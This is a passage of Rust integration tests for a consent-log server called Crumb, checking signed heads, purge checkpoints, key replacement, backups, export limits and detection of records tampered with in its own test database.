    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("signature does not verify"),
        "{}",
        stdout(&out)
    );

    // A mistyped key, or a head file that is not one, is a mistake in what
    // the auditor gave, not a verdict on the log: an error (exit 2) that
    // says what is wrong, never "BROKEN".
    std::fs::write(head_file, &head.body).unwrap();
    let out = verify("not-a-key");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
    assert!(err.contains("\"not-a-key\" is not a public key"), "{err}");
    let hash = head.json()["hash"].as_str().unwrap().to_owned();
    std::fs::write(head_file, head.body.replace(&hash, "not-a-hash")).unwrap();
    let out = verify(&public_key);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
    assert!(err.contains("is not a signed head"), "{err}");
    assert!(!stdout(&out).contains("BROKEN"), "{}", stdout(&out));

    // A head path that is no head (an endless device) is refused, not read
    // until memory runs out (the shell's limit keeps a regression from
    // taking the machine's memory with it).
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ulimit -v 4000000; exec '{}' verify '{file}' --head /dev/zero --public-key {public_key}",
            env!("CARGO_BIN_EXE_crumb")
        ))
        .env("CRUMB_LOG", "warn")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("larger than a signed head may be"), "{err}");
}

#[test]
fn purge_leaves_a_signed_checkpoint_and_the_chain_still_verifies() {
    // Arrange: ten records on each of three days, long enough ago that
    // every consent among them has expired.
    let app = spawn_app();
    back_to_2023(&app);
    for _ in 0..3 {
        app.seed(10, |i| format!("agent {i}"));
        app.clock.advance(time::Duration::days(1));
    }

    // Act: purge the first day.
    let out = app.crumb(&["purge", "--site", "demo", "--before", "2023-01-16"]);

    // Assert
    assert!(
        stdout(&out).contains("purged 10 records"),
        "{}",
        stdout(&out)
    );
    assert_eq!(app.record_count(), 20);
    let out = app.crumb(&["verify", "--db"]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let body = export(&app, "");
    let summary = verify_ndjson(Cursor::new(body.as_bytes())).unwrap();
    assert_eq!(summary.sites.values().next().unwrap().first_seq, 11);

    // New records continue the chain, even after everything is purged.
    app.record_consent(&app.analytics_only());
    app.assert_log_verifies();
    assert!(
        stdout(&app.crumb(&["purge", "--site", "demo", "--before", "2024-01-01"]))
            .contains("purged 21")
    );
    assert_eq!(app.record_count(), 0);
    app.record_consent(&app.analytics_only());
    let body = export(&app, "");
    assert!(body.contains("\"seq\":32"), "{body}");
    let out = app.crumb(&["verify", "--db"]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));

    // Records deleted behind the server's back are not covered by any
    // checkpoint.
    app.seed(5, |i| format!("agent {i}"));
    app.execute_sql("DELETE FROM records WHERE seq = 32");
    let out = app.crumb(&["verify", "--db"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("no purge checkpoint covers them"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn a_checkpoint_altered_in_the_database_breaks_the_log() {
    // Arrange: a log cut by a purge, whose checkpoint is then edited
    // behind the server's back.
    let app = spawn_app();
    back_to_2023(&app);
    app.seed(10, |i| format!("agent {i}"));
    app.clock.advance(time::Duration::days(1));
    app.seed(5, |i| format!("agent {i}"));
    succeeded(&app.crumb(&["purge", "--site", "demo", "--before", "2023-01-16"]));
    succeeded(&app.crumb(&["verify", "--db"]));
    app.execute_sql("UPDATE checkpoints SET signature = 'forged'");

    // Act
    let out = app.crumb(&["verify", "--db"]);

    // Assert: a verdict on the log (exit 1), as for an altered record,
    // not an error in what the auditor gave.
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("BROKEN: site demo: a purge checkpoint was altered"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn purge_by_age_over_every_site_keeps_what_may_still_count() {
    // Arrange: records from early 2023 and from 800 days later, in the
    // log of a site whose config was since deleted (its log stays, and
    // retention applies to it too).
    let app = spawn_app();
    back_to_2023(&app);
    app.seed(10, |i| format!("agent {i}"));
    app.clock.advance(time::Duration::days(800));
    app.seed(10, |i| format!("agent {i}"));
    succeeded(&app.crumb(&["site", "delete", "demo"]));
    let purge = |args: &[&str]| app.crumb(&[&["purge"][..], args].concat());

    // Act
    let too_recent = purge(&["--all-sites", "--keep-days", "365"]);
    let both = purge(&["--site", "demo", "--all-sites", "--keep-days", "1000"]);
    let neither = purge(&["--site", "demo"]);
    // The real clock's now: the early records are far older than 1,000
    // days, the later ones (2025) younger.
    let by_age = purge(&["--all-sites", "--keep-days", "1000"]);
    let again = purge(&["--all-sites", "--keep-days", "1000"]);

    // Assert: less than two years is refused and says how much to keep;
    // the early records are gone, with a checkpoint; nothing twice.
    let err = String::from_utf8_lossy(&too_recent.stderr);
    assert_eq!(too_recent.status.code(), Some(2), "{err}");
    assert!(err.contains("keeps less than two years"), "{err}");
    assert!(err.contains("keep at least 73"), "{err}");
    assert_eq!(both.status.code(), Some(2));
    assert_eq!(neither.status.code(), Some(2));
    assert_purged(&by_age, 10);
    assert!(
        stdout(&again).contains("nothing in site demo"),
        "{}",
        stdout(&again)
    );
    assert_eq!(app.record_count(), 10);
    succeeded(&app.crumb(&["verify", "--db"]));
}

#[test]
fn commands_other_than_serve_use_the_servers_key_and_never_make_one_up() {
    // Arrange: a log cut by a purge (its checkpoint signed with the
    // server's key), and a key setting that names no file, as when a
    // command runs from another folder or without the setting.
    let app = spawn_app();
    back_to_2023(&app);
    app.seed(10, |i| format!("agent {i}"));
    app.clock.advance(time::Duration::days(1));
    app.seed(10, |i| format!("agent {i}"));
    let server_key = stdout(&app.crumb(&["key"])).trim().to_owned();
    let elsewhere = app.dir.path().join("elsewhere.key");
    let without_key = |args: &[&str]| app.crumb_with_key(args, &elsewhere);

    // Act and assert: printing, signing and purging refuse, saying where
    // the key was looked for, and leave no key behind.
    for args in [
        &["key"][..],
        &["head", "--site", "demo"],
        &["purge", "--site", "demo", "--before", "2023-01-16"],
    ] {
        let out = without_key(args);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains("no signing key at"), "{args:?}: {err}");
        assert!(err.contains("elsewhere.key"), "{args:?}: {err}");
        assert!(!elsewhere.exists(), "{args:?} made a key");
    }
    assert_eq!(
        app.record_count(),
        20,
        "a purge without the key deleted records"
    );

    // An uncut log verifies without the key; a cut one needs it, and its
    // absence is a setup error, not a broken log.
    succeeded(&without_key(&["verify", "--db"]));
    assert_purged(
        &app.crumb(&["purge", "--site", "demo", "--before", "2023-01-16"]),
        10,
    );
    let out = without_key(&["verify", "--db"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{}{err}", stdout(&out));
    assert!(!stdout(&out).contains("BROKEN"), "{}", stdout(&out));
    assert!(err.contains("needs the server's signing key"), "{err}");
    assert!(!elsewhere.exists());

    // With the server's key all of them work, and it is the same key.
    succeeded(&app.crumb(&["verify", "--db"]));
    let head: Value =
        serde_json::from_str(&succeeded(&app.crumb(&["head", "--site", "demo"]))).unwrap();
    assert_eq!(head["public_key"], server_key.as_str());
}

#[test]
fn every_node_and_command_signs_a_log_with_the_key_the_log_records() {
    // Arrange: a log served with its key, a node set up apart without
    // that key file, and one with a key of its own.
    let app = spawn_app();
    assert_eq!(app.record_consent(&app.analytics_only()).status, 201);
    let log_key = succeeded(&app.crumb(&["key"])).trim().to_owned();
    let missing = app.dir.path().join("missing.key");
    let other = app.dir.path().join("other.key");
    std::fs::write(&other, "ab".repeat(32)).unwrap();
    let other_key = crumb_server::signing::Key::load(&other)
        .unwrap()
        .public()
        .to_string();
    let serve_with = |key: &std::path::Path| {
        let settings = Settings {
            port: 0,
            database: app.database(),
            signing_key: Some(key.to_owned()),
            workers: Some(1),
            ..Settings::default()
        };
        Application::spawn(settings, std::sync::Arc::new(app.clock.clone()))
            .map_err(|e| format!("{e:#}"))
    };

    // Act and assert: neither node starts, each saying which key the log
    // is signed with; the one without a key file is left without one.
    let err = serve_with(&missing).expect_err("a node without the log's key started");
    assert!(err.contains("no signing key at"), "{err}");
    assert!(err.contains(&log_key), "{err}");
    assert!(
        !missing.exists(),
        "a key was made up for a log that has one"
    );
    let err = serve_with(&other).expect_err("a node with another key started");
    assert!(err.contains("is not this log's"), "{err}");
    assert!(err.contains(&log_key) && err.contains(&other_key), "{err}");

    // Commands given the other key refuse to print, sign or purge with it.
    for args in [
        &["key"][..],
        &["head", "--site", "demo"],
        &["purge", "--site", "demo", "--before", "2020-01-01"],
    ] {
        let out = app.crumb_with_key(args, &other);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains("is not this log's"), "{args:?}: {err}");
    }

    // `crumb key --replace` makes the other key the log's (the old public
    // key is named, for what it signed); then a node with it starts and
    // signs with it, and the old key is the one refused.
    let out = app.crumb_with_key(&["key", "--replace"], &other);
    assert_eq!(succeeded(&out).trim(), other_key);
    let told = String::from_utf8_lossy(&out.stderr);
    assert!(told.contains(&log_key), "{told}");
    // The server started with the old key signs no more heads.
    let auditor = app.token(Role::Auditor, None);
    let stale_head = app.get_with_token("/v1/audit/sites/demo/head", &auditor);
    assert_eq!(stale_head.status, 503, "{}", stale_head.body);
    assert!(!stale_head.body.contains(&log_key), "{}", stale_head.body);
    let node = serve_with(&other).expect("a node with the log's new key");
    drop(node);
    let head: Value = serde_json::from_str(&succeeded(
        &app.crumb_with_key(&["head", "--site", "demo"], &other),
    ))
    .unwrap();
    assert_eq!(head["public_key"], other_key.as_str());
    let err = app.crumb(&["head", "--site", "demo"]);
    assert_eq!(err.status.code(), Some(2));
    succeeded(&app.crumb(&["verify", "--db"]));
}

#[test]
fn a_backup_taken_while_consents_are_written_is_a_verified_prefix_of_the_log() {
    // Arrange: a log with a purged start (so its copy needs the key to
    // verify) and clients writing while the backup runs. (On PostgreSQL
    // the backup is a SQLite file too.)
    let app = spawn_app();
    let target = app.dir.path().join("backup.db");
    let backup = || app.crumb(&["backup", "--to", target.to_str().unwrap()]);
    back_to_2023(&app);
    app.seed(10, |i| format!("agent {i}"));
    app.clock.advance(time::Duration::days(800));
    app.seed(2000, |i| format!("agent {i}"));
    assert_purged(
        &app.crumb(&["purge", "--site", "demo", "--before", "2023-02-01"]),
        10,
    );
    let writing = std::sync::atomic::AtomicBool::new(true);
    let body = app.analytics_only();

    // Act
    let out = std::thread::scope(|s| {
        for _ in 0..4 {
            s.spawn(|| {
                while writing.load(std::sync::atomic::Ordering::Relaxed) {
                    assert_eq!(app.record_consent(&body).status, 201);
                }
            });
        }
        let out = backup();
        writing.store(false, std::sync::atomic::Ordering::Relaxed);
        out
    });
    let again = backup();

    // Assert: the backup is a Crumb database that verifies on its own,
    // holding the log up to some record with the same bytes and hashes;
    // no partial file is left, and an existing file is never overwritten.
    let said = succeeded(&out);
    let verifies = if app.on_sqlite() {
        "the copy verifies"
    } else {
        "both verify"
    };
    assert!(said.contains(verifies), "{said}");
    let copy = crumb_server::storage::Database::Sqlite(target.clone());
    let verified = std::process::Command::new(env!("CARGO_BIN_EXE_crumb"))
        .args(["verify", "--db"])
        .env("CRUMB_DATABASE", copy.to_setting())
        .env("CRUMB_SIGNING_KEY", app.dir.path().join("crumb.db.key"))
        .output()
        .unwrap();
    succeeded(&verified);
    let live = app.records();
    let copied = crumb_server::storage::SqliteStore::open(&target).unwrap();
    let mut backed_up = Vec::new();
    copied
        .for_each_record(
            None,
            &crumb_server::storage::TimeRange::all(),
            &mut |b, h| {
                backed_up.push((b.to_owned(), h.to_owned()));
                true
            },
        )
        .unwrap();
    assert!(backed_up.len() >= 2000, "{} records", backed_up.len());
    assert!(backed_up.len() <= live.len());
    for ((body, hash), (live_body, live_hash)) in backed_up.iter().zip(&live) {
        assert_eq!(hash, live_hash);
        assert_eq!(serde_json::from_str::<Value>(body).unwrap(), *live_body);
    }
    assert!(!app.dir.path().join("backup.db.partial").exists());
    // The log holds visitors' data: the backup is as private as the log.
    let mode = std::os::unix::fs::PermissionsExt::mode(&target.metadata().unwrap().permissions());
    assert_eq!(mode & 0o077, 0, "mode {mode:o}");
    let err = String::from_utf8_lossy(&again.stderr);
    assert_eq!(again.status.code(), Some(2), "{err}");
    assert!(err.contains("exists already"), "{err}");
}

#[test]
fn a_node_runs_a_few_exports_at_once_and_refuses_more_until_one_ends() {
    // Arrange: a log longer than the sockets' buffers hold, and auditors'
    // clients that stop reading after the first bytes (a stalled or
    // deliberately slow client holds its export open).
    let app = spawn_app();
    app.seed(60_000, |i| format!("agent {i}"));
    let auditor = app.token(Role::Auditor, None);
    let host = app.address.trim_start_matches("http://").to_owned();
    let stall = || {
        use std::io::{Read as _, Write as _};
        let mut client = std::net::TcpStream::connect(&host).unwrap();
        write!(
            client,
            "GET {EXPORT} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {auditor}\r\n\r\n"
        )
        .unwrap();
        let mut first = [0u8; 12];
        client.read_exact(&mut first).unwrap();
        assert_eq!(
            &first,
            b"HTTP/1.1 200",
            "{}",
            String::from_utf8_lossy(&first)
        );
        client
    };
    let mut stalled: Vec<std::net::TcpStream> = (0..4).map(|_| stall()).collect();

    // Act: one export more; then one stalled client goes away.
    let refused = app.get_with_token(EXPORT, &auditor);
    drop(stalled.pop());
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let next = loop {
        let answer = app.get_with_token(EXPORT, &auditor);
        if answer.status != 429 || std::time::Instant::now() > deadline {
            break answer;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    };

    // Assert: refused while four run, readable and with a time to retry;
    // the next one, once a place is free, is the whole log.
    let start = &refused.body[..refused.body.len().min(200)];
    assert_eq!(refused.status, 429, "{start}");
    assert_eq!(refused.error_code(), "too_many_exports");
    assert!(refused.header("retry-after").is_some());
    assert_eq!(next.status, 200);
    let summary = verify_ndjson(Cursor::new(next.body.as_bytes())).unwrap();
    assert_eq!(summary.records, 60_000);
    drop(stalled);
}

#[test]
fn after_a_key_replacement_the_old_published_key_still_checks_what_it_signed() {
    // Arrange: a purge signed with the log's first key, then the key
    // replaced (lost, say) by another.
    let app = spawn_app();
    back_to_2023(&app);
    for _ in 0..3 {
        app.seed(10, |i| format!("agent {i}"));
        app.clock.advance(time::Duration::days(1));
    }
    assert_purged(
        &app.crumb(&["purge", "--site", "demo", "--before", "2023-01-16"]),
        10,
    );
    let old_key = succeeded(&app.crumb(&["key"])).trim().to_owned();
    let new = app.dir.path().join("new.key");
    succeeded(&app.crumb_with_key(&["key", "--replace"], &new));
    let with_new = |args: &[&str]| app.crumb_with_key(args, &new);

    // Act
    let alone = with_new(&["verify", "--db"]);
    let with_old = with_new(&["verify", "--db", "--public-key", &old_key]);
    let not_a_key = with_new(&["verify", "--db", "--public-key", "nope"]);
    let backup_path = app.dir.path().join("backup.db");
    let backup = backup_path.to_str().unwrap();
    let backed_up = with_new(&["backup", "--to", backup, "--public-key", &old_key]);
    let purged_again = with_new(&["purge", "--site", "demo", "--before", "2023-01-17"]);
    let after_new_purge = with_new(&["verify", "--db"]);

    // Assert: the new key alone cannot vouch for the old checkpoint, and
    // says which key to add; with the old published key it verifies; a
    // purge with the new key anchors the chain on a checkpoint it signed.
    assert_eq!(alone.status.code(), Some(1), "{}", stdout(&alone));
    assert!(
        stdout(&alone).contains(&format!("--public-key {old_key}")),
        "{}",
        stdout(&alone)
    );
    succeeded(&with_old);
    assert_eq!(not_a_key.status.code(), Some(2));
    if app.on_sqlite() {
        succeeded(&backed_up);
    }
    assert_purged(&purged_again, 10);
    succeeded(&after_new_purge);
}

#[test]
fn cli_csv_export_matches_the_api_across_chunks() {
    // Arrange: more records than one chunk of the CLI's two-thread CSV
    // export, with user agents that need quoting.
    let app = spawn_app();
    app.seed(2500, |i| format!("agent \"{i}\", with, commas"));
    let file = app.dir.path().join("log.csv");
    let file = file.to_str().unwrap();

    // Act
    let out = app.crumb(&["export", "--site", "demo", "--format", "csv", "-o", file]);

    // Assert
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let cli = std::fs::read_to_string(file).unwrap();
    assert_eq!(cli, export(&app, "?format=csv"));
    assert_eq!(
        csv::Reader::from_reader(cli.as_bytes()).records().count(),
        2500
    );
}

#[test]
fn the_global_privacy_control_signal_is_kept_exported_and_verified() {
    // Arrange: a choice from a browser sending Sec-GPC: 1, one without.
    let app = spawn_app();
    let mut gpc = app.analytics_only();
    gpc["method"] = json!("gpc");
    let with = app.request(
        "POST",
        "/v1/sites/demo/consents",
        &[("Content-Type", "application/json"), ("Sec-GPC", "1")],
        Some(&gpc.to_string()),
    );
    assert_eq!(with.status, 201, "{}", with.body);
    app.record_consent(&app.analytics_only());

    // Act
    let ndjson = export(&app, "");
    let csv = export(&app, "?format=csv");

    // Assert: the stored record carries it; the other carries nothing new.
    let lines: Vec<Value> = ndjson
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines[0]["gpc"], true);
    assert_eq!(lines[0]["method"], "gpc");
    assert!(lines[1].get("gpc").is_none(), "{}", lines[1]);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let gpc = column(&mut reader, "gpc");
    let flags: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[gpc].to_owned())
        .collect();
    assert_eq!(flags, ["true", "false"]);
    // Both verify, offline and in the database.
    let summary = verify_ndjson(Cursor::new(ndjson.as_bytes())).unwrap();
    assert_eq!(summary.records, 2);
    app.assert_log_verifies();
}

#[test]
fn purge_refuses_to_delete_records_that_may_prove_a_consent_that_counts() {
    // Arrange: records given a month ago by the real clock (which `crumb
    // purge` reads): their consents count for two years.
    let app = spawn_app();
    let real_now = time::OffsetDateTime::now_utc();
    app.clock
        .advance(real_now - time::Duration::days(30) - app.clock.now());
    app.seed(5, |i| format!("agent {i}"));
    let yesterday = (real_now - time::Duration::days(1)).date().to_string();

    for before in [yesterday.as_str(), "2999-01-01"] {
        // Act
        let out = app.crumb(&["purge", "--site", "demo", "--before", before]);

        // Assert: refused with a plain message; nothing deleted.
        let said = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{before}: {said}");
        assert!(said.contains("is too recent"), "{said}");
        assert!(said.contains("purge before 20"), "{said}");
        assert_eq!(app.record_count(), 5);
    }
    app.assert_log_verifies();
}

#[test]
fn purge_works_beside_a_server_taking_writes() {
    // Arrange: a day of old records, then the server taking writes from
    // four clients while the purge runs.
    let app = spawn_app();
    back_to_2023(&app);
    app.seed(2000, |i| format!("agent {i}"));
    app.clock.advance(time::Duration::days(2));
    let body = app.analytics_only();
    let stop = std::sync::atomic::AtomicBool::new(false);

    // Act
    let (out, statuses) = std::thread::scope(|s| {
        let writers: Vec<_> = (0..4)
            .map(|_| {
                s.spawn(|| {
                    let mut statuses = Vec::new();
                    while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                        statuses.push(app.record_consent(&body).status);
                    }
                    statuses
                })
            })
            .collect();
        std::thread::sleep(std::time::Duration::from_millis(200));
        let out = app.crumb(&["purge", "--site", "demo", "--before", "2023-01-16"]);
        std::thread::sleep(std::time::Duration::from_millis(200));
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        let statuses: Vec<u16> = writers
            .into_iter()
            .flat_map(|w| w.join().unwrap())
            .collect();
        (out, statuses)
    });

    // Assert: the purge went through, every write was acknowledged, and
    // the chain verifies.
    assert_purged(&out, 2000);
    assert!(!statuses.is_empty());
    assert!(statuses.iter().all(|s| *s == 201), "{statuses:?}");
    assert_eq!(app.record_count(), statuses.len() as u64);
    let out = app.crumb(&["verify", "--db"]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
}

#[test]
fn purge_removes_records_that_idempotency_keys_point_at() {
    // Arrange: a choice sent with an Idempotency-Key, then one without.
    let app = spawn_app();
    back_to_2023(&app);
    let body = app.analytics_only().to_string();
    let keyed = app.record_consent_keyed(&body, "k-1");
    assert_eq!(keyed.status, 201);
    app.clock.advance(time::Duration::days(2));
    assert_eq!(app.record_consent(&app.analytics_only()).status, 201);

    // Act: purge the keyed record.
    let out = app.crumb(&["purge", "--site", "demo", "--before", "2023-01-16"]);

    // Assert: purged; the chain verifies; the key no longer stands for a
    // record, so a new request with it is a new record.
    assert_purged(&out, 1);
    app.assert_log_verifies();
    let again = app.record_consent_keyed(&body, "k-1");
    assert_eq!(again.status, 201, "{}", again.body);
    assert_eq!(again.header("idempotent-replayed"), None);
    assert_eq!(app.record_count(), 2);
}

#[test]
fn appends_by_another_connection_between_batches_keep_one_chain() {
    // Arrange: the server has written, so its writer knows the chain's
    // head; then another connection appends, as a second `crumb serve` on
    // the same file would.
    let app = spawn_app();
    let body = app.analytics_only();
    assert_eq!(app.record_consent(&body).status, 201);
    app.seed(3, |i| format!("another process {i}"));

    // Act
    let answer = app.record_consent(&body);

    // Assert: the write links to the other connection's last record.
    assert_eq!(answer.status, 201, "{}", answer.body);
    assert_eq!(app.record_count(), 5);
    let out = app.crumb(&["verify", "--db"]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
}

/// A log written by Crumb as it was before the writer's changes (issue 16:
/// ids minted on the HTTP workers, the consent rules lifted out of the
/// storage adapters), extended by this build: the old records and the new
/// ones are one chain, and it verifies from the database and from an
/// export, and that build's own export of the old records still verifies.
/// The fixtures were written through the HTTP API by `crumb demo` at
/// 562dccf (see `fixtures/README.md`); on PostgreSQL the old log is moved
/// there with `crumb copy` first.
#[test]
fn records_written_before_the_writer_changes_and_after_verify_as_one_chain() {
    // Arrange: the old log (and its signing key) as this app's database.
    let fixtures = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/it/fixtures");
    let dir = std::sync::Arc::new(tempfile::TempDir::new().unwrap());
    std::fs::copy(
        fixtures.join("log-562dccf.db.key"),
        dir.path().join("crumb.db.key"),
    )
    .unwrap();
    if postgres_admin().is_some() {
        let old = dir.path().join("old.db");
        std::fs::copy(fixtures.join("log-562dccf.db"), &old).unwrap();
        // A fresh, empty database on the test's server.
        let url = database_in(&dir).to_setting();
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_crumb"))
            .arg("copy")
            .arg("--from")
            .arg(&old)
            .arg("--to")
            .arg(url)
            .env("CRUMB_SIGNING_KEY", dir.path().join("crumb.db.key"))
            .env("CRUMB_LOG", "warn")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    } else {
        std::fs::copy(fixtures.join("log-562dccf.db"), dir.path().join("crumb.db")).unwrap();
    }
    let app = spawn_app_in(dir);
    let old = app.records();
    assert!(old.len() >= 5, "the fixture holds the old log");
    let (last_old, _) = old.last().unwrap();
    // The test clock starts in January 2026; the old records are later.
    let written = time::OffsetDateTime::parse(
        last_old["event_time"].as_str().unwrap(),
        &time::format_description::well_known::Rfc3339,
    )
    .unwrap();
    app.clock
        .advance(written - app.clock.now() + time::Duration::days(1));
    let given = |(body, _): &(Value, String)| {
        (body["event"] == "given").then(|| body["consent_id"].as_str().unwrap().to_owned())
    };
    let old_consents: Vec<String> = old.iter().filter_map(given).collect();

    // Act: a new consent, an update of an old one and the withdrawal of
    // another, by this build.
    assert_eq!(app.record_consent(&app.analytics_only()).status, 201);
    let mut update = app.analytics_only();
    update["consent_id"] = json!(old_consents[0]);
    update["categories"]["marketing"] = json!(true);
    let updated = app.record_consent(&update);
    assert_eq!(updated.status, 201, "{}", updated.body);
    assert_eq!(app.withdraw(&old_consents[1]).status, 201);

    // Assert: one chain over both, seq without a gap, from the database
    // and from an export.
    let all = app.records();
    assert_eq!(all.len(), old.len() + 3);
    for (i, (body, _)) in all.iter().enumerate() {
        assert_eq!(body["seq"], json!(i + 1));
    }
    assert_eq!(all[old.len() + 1].0["event"], "updated");
    assert_eq!(all[old.len() + 1].0["consent_id"], json!(old_consents[0]));
    app.assert_log_verifies();
    let exported = export(&app, "");
    let summary = verify_ndjson(Cursor::new(exported.as_bytes())).unwrap();
    assert_eq!(summary.records, all.len() as u64);
    // The texts the old records name were kept when this build first
    // served their log.
    let auditor = app.token(Role::Auditor, Some("demo"));
    let shown = old[0].0["text_hash"].as_str().unwrap();
    let texts = app.get_with_token(&format!("/v1/audit/sites/demo/texts/{shown}"), &auditor);
    assert_eq!(texts.status, 200, "{}", texts.body);
    assert_eq!(
        crumb_server::record::sha256_hex(texts.body.as_bytes()),
        shown
    );
    // The old build's own export of its records still verifies, and this
    // build exports those records byte for byte as it did.
    let old_export = fixtures.join("export-562dccf.ndjson");
    let out = app.crumb(&["verify", old_export.to_str().unwrap()]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.starts_with("OK: 6 records verified"), "{stdout}");
    let old_lines = std::fs::read_to_string(&old_export).unwrap();
    let old_lines: Vec<&str> = old_lines.lines().collect();
    assert_eq!(
        old_lines,
        exported.lines().take(old.len()).collect::<Vec<_>>()
    );
}
